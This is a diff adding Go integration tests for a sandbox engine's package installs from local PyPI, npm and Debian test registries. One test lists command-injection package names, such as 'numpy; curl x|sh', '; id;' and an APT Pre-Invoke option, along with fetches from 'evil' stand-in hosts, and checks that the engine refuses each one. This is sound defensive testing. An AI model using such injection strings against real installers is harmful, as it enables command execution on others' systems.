@@ -1,0 +1,441 @@
+package engine
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"crypto/sha1"
+	"crypto/sha256"
+	"crypto/sha512"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/containerd/errdefs"
+
+	"github.com/isol8/isol8/registry"
+)
+
+// Package installs against registries the test starts on host loopback.
+// The sandboxes use the host network (the filtered network is built
+// elsewhere); under filtered the same installers reach the same servers
+// through the proxy variables.
+
+// testServer serves h on a loopback port picked by the kernel and records
+// the paths it was asked for.
+type testServer struct {
+	URL string
+	mu  sync.Mutex
+	hit []string
+}
+
+func startServer(t *testing.T, h http.Handler) *testServer {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := &testServer{URL: "http://" + ln.Addr().String()}
+	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		s.mu.Lock()
+		s.hit = append(s.hit, r.URL.Path)
+		s.mu.Unlock()
+		h.ServeHTTP(w, r)
+	}), ReadHeaderTimeout: 10 * time.Second}
+	go srv.Serve(ln)
+	t.Cleanup(func() { srv.Close() })
+	return s
+}
+
+func (s *testServer) hits() []string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return append([]string(nil), s.hit...)
+}
+
+func (s *testServer) wasAsked(path string) bool {
+	for _, h := range s.hits() {
+		if h == path {
+			return true
+		}
+	}
+	return false
+}
+
+// buildWheel makes a pure-Python wheel of one module whose VALUE is value:
+// a zip with the module, and dist-info METADATA, WHEEL and RECORD (each
+// file's urlsafe-base64 sha256 and size).
+func buildWheel(t *testing.T, dist, version, module, value string) []byte {
+	t.Helper()
+	info := dist + "-" + version + ".dist-info"
+	files := []struct{ name, body string }{
+		{module + "/__init__.py", fmt.Sprintf("VALUE = %q\n", value)},
+		{info + "/METADATA", "Metadata-Version: 2.1\nName: " + dist + "\nVersion: " + version + "\n"},
+		{info + "/WHEEL", "Wheel-Version: 1.0\nGenerator: isol8-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
+	}
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	var record strings.Builder
+	for _, f := range files {
+		w, err := zw.Create(f.name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(f.body))
+		sum := sha256.Sum256([]byte(f.body))
+		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f.name, base64.RawURLEncoding.EncodeToString(sum[:]), len(f.body))
+	}
+	record.WriteString(info + "/RECORD,,\n")
+	w, err := zw.Create(info + "/RECORD")
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.Write([]byte(record.String()))
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// pypiIndex serves a PEP 503 "simple" index with one project whose only
+// file is wheel.
+func pypiIndex(t *testing.T, project, wheelName string, wheel []byte) *testServer {
+	sum := sha256.Sum256(wheel)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/simple/", func(w http.ResponseWriter, r *http.Request) {
+		switch strings.Trim(strings.TrimPrefix(r.URL.Path, "/simple/"), "/") {
+		case "":
+			fmt.Fprintf(w, "<html><body><a href=\"/simple/%s/\">%s</a></body></html>", project, project)
+		case project:
+			fmt.Fprintf(w, "<html><body><a href=\"/files/%s#sha256=%s\">%s</a></body></html>",
+				wheelName, hex.EncodeToString(sum[:]), wheelName)
+		default:
+			http.NotFound(w, r)
+		}
+	})
+	mux.HandleFunc("/files/"+wheelName, func(w http.ResponseWriter, r *http.Request) { w.Write(wheel) })
+	return startServer(t, mux)
+}
+
+// npmTarball packs package/package.json and package/index.js, a CommonJS
+// module exporting value.
+func npmTarball(t *testing.T, name, version, value string) []byte {
+	t.Helper()
+	pkg, _ := json.Marshal(map[string]string{"name": name, "version": version, "main": "index.js"})
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, f := range []struct{ name, body string }{
+		{"package/package.json", string(pkg)},
+		{"package/index.js", fmt.Sprintf("module.exports = %q;\n", value)},
+	} {
+		if err := tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.body)), ModTime: time.Unix(1700000000, 0), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		tw.Write([]byte(f.body))
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// npmRegistry serves one package version: its registry document (with the
+// tarball's sha1 shasum and sha512 integrity) and the tarball.
+func npmRegistry(t *testing.T, name, version string, tgz []byte) *testServer {
+	var srv *testServer
+	tarPath := "/" + name + "/-/" + name + "-" + version + ".tgz"
+	sha := sha1.Sum(tgz)
+	sha5 := sha512.Sum512(tgz)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case tarPath:
+			w.Header().Set("Content-Type", "application/octet-stream")
+			w.Write(tgz)
+		case "/" + name:
+			doc := map[string]any{
+				"name":      name,
+				"dist-tags": map[string]string{"latest": version},
+				"modified":  "2024-01-01T00:00:00.000Z",
+				"versions": map[string]any{version: map[string]any{
+					"name": name, "version": version, "main": "index.js",
+					"dist": map[string]string{
+						"tarball":   srv.URL + tarPath,
+						"shasum":    hex.EncodeToString(sha[:]),
+						"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sha5[:]),
+					},
+				}},
+				"time": map[string]string{version: "2024-01-01T00:00:00.000Z", "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z"},
+			}
+			w.Header().Set("Content-Type", "application/json")
+			json.NewEncoder(w).Encode(doc)
+		default:
+			http.NotFound(w, r)
+		}
+	})
+	srv = startServer(t, mux)
+	return srv
+}
+
+// installEngine is an engine on the host network whose installs use reg.
+func installEngine(t *testing.T, reg registry.Config, opts Options) *Engine {
+	t.Helper()
+	opts.Network = NetworkHost
+	opts.Registries = &reg
+	e := newTestEngine(t, opts)
+	return e
+}
+
+func timedRun(t *testing.T, e *Engine, req Request) (*Result, time.Duration) {
+	t.Helper()
+	start := time.Now()
+	res, err := e.Execute(t.Context(), req)
+	if err != nil {
+		t.Fatalf("Execute(%s, install %q): %v", req.Runtime, req.InstallPackages, err)
+	}
+	return res, time.Since(start)
+}
+
+func TestInstallPythonFromIndex(t *testing.T) {
+	wheel := buildWheel(t, "isol8_probe", "1.0", "isol8_probe", "wheel-ok")
+	idx := pypiIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", wheel)
+	e := installEngine(t, registry.Config{PipIndexURL: idx.URL + "/simple"}, Options{})
+	mustHaveImage(t, e, "python")
+	res, d := timedRun(t, e, Request{Runtime: "python", InstallPackages: []string{"isol8-probe==1.0"},
+		Code: "import isol8_probe, os\nprint(isol8_probe.VALUE, isol8_probe.__file__, os.getuid())"})
+	if res.ExitCode != 0 || !strings.Contains(res.Stdout, "wheel-ok /sandbox/.local/lib/python3") || !strings.HasSuffix(res.Stdout, " 100") {
+		t.Fatalf("exit %d stdout %q stderr %q", res.ExitCode, res.Stdout, res.Stderr)
+	}
+	if !idx.wasAsked("/files/isol8_probe-1.0-py3-none-any.whl") {
+		t.Fatalf("the wheel was not fetched from the test index: %q", idx.hits())
+	}
+	t.Logf("python install+run: %v", d)
+}
+
+func TestInstallNodeBunDenoFromRegistry(t *testing.T) {
+	tgz := npmTarball(t, "isol8-probe", "1.0.0", "npm-ok")
+	for _, tc := range []struct {
+		runtime, pkg, code, want string
+	}{
+		// import.meta.resolve proves the package came from node_modules
+		// (bun would otherwise auto-install it at run time).
+		{"node", "isol8-probe@1.0.0", `import v from "isol8-probe"; console.log(v, import.meta.resolve("isol8-probe"), process.getuid());`,
+			"npm-ok file:///sandbox/node_modules/isol8-probe/index.js 100"},
+		{"bun", "isol8-probe@^1", `import v from "isol8-probe"; console.log(v, import.meta.resolve("isol8-probe"), process.getuid());`,
+			"npm-ok file:///sandbox/node_modules/isol8-probe/index.js 100"},
+		{"deno", "isol8-probe@1.0.0", `import v from "npm:isol8-probe@1.0.0"; console.log(v, Deno.env.get("DENO_DIR"));`,
+			"npm-ok /sandbox/.deno"},
+	} {
+		t.Run(tc.runtime, func(t *testing.T) {
+			reg := npmRegistry(t, "isol8-probe", "1.0.0", tgz)
+			e := installEngine(t, registry.Config{NpmRegistry: reg.URL + "/"}, Options{})
+			mustHaveImage(t, e, tc.runtime)
+			res, d := timedRun(t, e, Request{Runtime: tc.runtime, InstallPackages: []string{tc.pkg}, Code: tc.code})
+			if res.ExitCode != 0 || res.Stdout != tc.want {
+				t.Fatalf("exit %d stdout %q stderr %q (registry saw %q)", res.ExitCode, res.Stdout, res.Stderr, reg.hits())
+			}
+			if !reg.wasAsked("/isol8-probe/-/isol8-probe-1.0.0.tgz") {
+				t.Fatalf("the tarball was not fetched from the test registry: %q", reg.hits())
+			}
+			t.Logf("%s install+run: %v", tc.runtime, d)
+		})
+	}
+}
+
+// Hostile package names are refused before any sandbox runs, with an
+// invalid-argument error, and reach no registry.
+func TestInstallHostileNamesRefused(t *testing.T) {
+	idx := startServer(t, http.NotFoundHandler())
+	e := installEngine(t, registry.Config{PipIndexURL: idx.URL + "/simple", NpmRegistry: idx.URL + "/"}, Options{})
+	for _, tc := range []struct{ runtime, pkg string }{
+		{"python", "numpy; curl x|sh"},
+		{"python", "--index-url http://evil"},
+		{"python", "--index-url=http://evil"},
+		{"python", "-e ."},
+		{"python", "git+https://github.com/a/b"},
+		{"python", "numpy @ https://evil.example/n.whl"},
+		{"node", "left-pad && id"},
+		{"node", "github:user/repo"},
+		{"node", "user/repo"},
+		{"node", "x@file:/etc"},
+		{"bun", "--registry=http://evil"},
+		{"deno", "https://evil.example/mod.ts"},
+		{"deno", "'; id; '"},
+		{"bash", "jq; id"},
+		{"bash", "./evil.deb"},
+		{"bash", "-oAPT::Update::Pre-Invoke::=id"},
+	} {
+		_, err := e.Execute(t.Context(), Request{Runtime: tc.runtime, Code: "1", Cmd: "", InstallPackages: []string{"ok", tc.pkg}})
+		if err == nil || !errdefs.IsInvalidArgument(err) || !strings.Contains(err.Error(), "Invalid package name for "+tc.runtime) {
+			t.Errorf("%s %q: err %v, want an invalid-argument refusal", tc.runtime, tc.pkg, err)
+		}
+	}
+	if h := idx.hits(); len(h) != 0 {
+		t.Fatalf("a refused install reached the registry: %q", h)
+	}
+}
+
+// A failed install ends the execution with the install's exit code and
+// its stderr, secrets masked; the program does not run.
+func TestInstallFailureMessage(t *testing.T) {
+	idx := pypiIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", buildWheel(t, "isol8_probe", "1.0", "isol8_probe", "x"))
+	e := installEngine(t, registry.Config{PipIndexURL: idx.URL + "/simple"}, Options{Secrets: map[string]string{"TOKEN": "s3cretpkg"}})
+	mustHaveImage(t, e, "python")
+	_, err := e.Execute(t.Context(), Request{Runtime: "python", Code: "print('ran')", InstallPackages: []string{"s3cretpkg-missing"}})
+	var se *SetupError
+	if !errors.As(err, &se) || se.Kind != "install" || se.ExitCode != 1 {
+		t.Fatalf("err = %#v, want an install SetupError with exit code 1", err)
+	}
+	msg := err.Error()
+	if !strings.HasPrefix(msg, "Package install failed (exit code 1): ") || !strings.Contains(msg, "***-missing") ||
+		strings.Contains(msg, "s3cretpkg") || strings.Contains(msg, "ran") {
+		t.Fatalf("message = %q", msg)
+	}
+	if !idx.wasAsked("/simple/s3cretpkg-missing/") {
+		t.Fatalf("pip did not ask the test index: %q", idx.hits())
+	}
+
+	// Streaming: an error event with the same text, then exit with the code.
+	ch, err := e.ExecuteStream(t.Context(), Request{Runtime: "python", Code: "print('ran')", InstallPackages: []string{"s3cretpkg-missing"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var evs []Event
+	for ev := range ch {
+		evs = append(evs, ev)
+	}
+	if len(evs) < 2 || evs[len(evs)-2].Type != EventError || !strings.HasPrefix(evs[len(evs)-2].Data, "Package install failed (exit code 1): ") ||
+		evs[len(evs)-1].Type != EventExit || evs[len(evs)-1].Data != "1" {
+		t.Fatalf("events = %+v", evs)
+	}
+}
+
+// What an install put in /sandbox is gone in the next execution of the
+// pool, and the install left nothing in /tmp (the reset wipes both, but
+// nothing of an install belongs outside /sandbox). With the host network
+// the fast pool's reset check sees the host's sockets and replaces the
+// sandbox instead of reusing it; either way nothing may be visible.
+func TestInstallNotVisibleInNextPooledSandbox(t *testing.T) {
+	wheel := buildWheel(t, "isol8_probe", "1.0", "isol8_probe", "wheel-ok")
+	idx := pypiIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", wheel)
+	reg := registry.Config{PipIndexURL: idx.URL + "/simple"}
+	e := fastPool(t, Options{Network: NetworkHost, Registries: &reg})
+	mustHaveImage(t, e, "python")
+	a := run(t, e, Request{Runtime: "python", InstallPackages: []string{"isol8-probe"},
+		Code: "import isol8_probe, os; print(isol8_probe.VALUE, os.listdir('/tmp'))"})
+	if a.ExitCode != 0 || a.Stdout != "wheel-ok []" {
+		t.Fatalf("install run: exit %d stdout %q stderr %q", a.ExitCode, a.Stdout, a.Stderr)
+	}
+	b := run(t, e, Request{Runtime: "python", Code: "import os\ntry:\n import isol8_probe\n print('visible')\nexcept ImportError:\n print('gone', os.path.exists('/sandbox/.local'), os.listdir('/sandbox'))"})
+	if b.ExitCode != 0 || b.Stdout != "gone False []" {
+		t.Fatalf("next run: exit %d stdout %q stderr %q", b.ExitCode, b.Stdout, b.Stderr)
+	}
+	t.Logf("sandbox reused: %v", a.ContainerID == b.ContainerID)
+}
+
+// debPackage builds a .deb with dpkg-deb from files (path in the package
+// to content; executables end in "bin/...").
+func debPackage(t *testing.T, dir, name, version, depends string, files map[string]string) {
+	t.Helper()
+	root := filepath.Join(t.TempDir(), name)
+	control := fmt.Sprintf("Package: %s\nVersion: %s\nArchitecture: all\nMaintainer: isol8 tests <t@example.invalid>\nDescription: isol8 test package\n", name, version)
+	if depends != "" {
+		control += "Depends: " + depends + "\n"
+	}
+	files["DEBIAN/control"] = control
+	for p, body := range files {
+		mode := os.FileMode(0o644)
+		if strings.Contains(p, "bin/") {
+			mode = 0o755
+		}
+		full := filepath.Join(root, p)
+		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(full, []byte(body), mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	out, err := exec.CommandContext(t.Context(), "dpkg-deb", "--root-owner-group", "-Zgzip", "--build", root,
+		filepath.Join(dir, name+"_"+version+"_all.deb")).CombinedOutput()
+	if err != nil {
+		t.Fatalf("dpkg-deb: %v: %s", err, out)
+	}
+}
+
+// debRepo builds a flat Debian repository (Packages, Release) of two
+// packages, isol8-probe depending on isol8-probe-data, with apt-ftparchive,
+// and serves it.
+func debRepo(t *testing.T) *testServer {
+	t.Helper()
+	for _, tool := range []string{"dpkg-deb", "apt-ftparchive"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("%s not installed (scripts/install-deps.sh installs it)", tool)
+		}
+	}
+	dir := t.TempDir()
+	debPackage(t, dir, "isol8-probe", "1.0", "isol8-probe-data (>= 1.0), bash", map[string]string{
+		"usr/bin/isol8-probe": "#!/bin/sh\nprintf 'deb-ok %s\\n' \"$(cat \"$(dirname \"$0\")/../share/isol8-probe-data/value\")\"\n",
+	})
+	debPackage(t, dir, "isol8-probe-data", "1.0", "", map[string]string{"usr/share/isol8-probe-data/value": "data-ok"})
+	for _, c := range []struct {
+		args []string
+		out  string
+	}{
+		{[]string{"packages", "."}, "Packages"},
+		{[]string{"release", "."}, "Release"},
+	} {
+		cmd := exec.CommandContext(t.Context(), "apt-ftparchive", c.args...)
+		cmd.Dir = dir
+		out, err := cmd.Output()
+		if err != nil {
+			t.Fatalf("apt-ftparchive %v: %v", c.args, err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, c.out), out, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return startServer(t, http.FileServer(http.Dir(dir)))
+}
+
+// Bash installs: apt, as the sandbox user, downloads the package and the
+// dependency the image lacks from the configured repository and unpacks
+// both under /sandbox/.apt/root, which leads PATH.
+func TestInstallBashFromDebianRepo(t *testing.T) {
+	repo := debRepo(t)
+	e := installEngine(t, registry.Config{AptSources: "deb [trusted=yes] " + repo.URL + "/ ./\n"}, Options{})
+	mustHaveImage(t, e, "bash")
+	res, d := timedRun(t, e, Request{Runtime: "bash", InstallPackages: []string{"isol8-probe"},
+		Code: "isol8-probe; command -v isol8-probe; id -u; ls /var/lib/dpkg/info | grep -c isol8 || true"})
+	want := "deb-ok data-ok\n/sandbox/.apt/root/usr/bin/isol8-probe\n100\n0"
+	if res.ExitCode != 0 || res.Stdout != want {
+		t.Fatalf("exit %d stdout %q stderr %q (repo saw %q)", res.ExitCode, res.Stdout, res.Stderr, repo.hits())
+	}
+	if !slices.ContainsFunc(repo.hits(), func(p string) bool { return strings.HasSuffix(p, "/isol8-probe-data_1.0_all.deb") }) {
+		t.Fatalf("the dependency was not fetched: %q", repo.hits())
+	}
+	t.Logf("bash install+run: %v", d)
+
+	_, err := e.Execute(t.Context(), Request{Runtime: "bash", Code: "echo ran", InstallPackages: []string{"isol8-no-such-package"}})
+	if err == nil || !strings.HasPrefix(err.Error(), "Package install failed (exit code 100): ") ||
+		!strings.Contains(err.Error(), "Unable to locate package isol8-no-such-package") {
+		t.Fatalf("missing package: err = %v", err)
+	}
+}
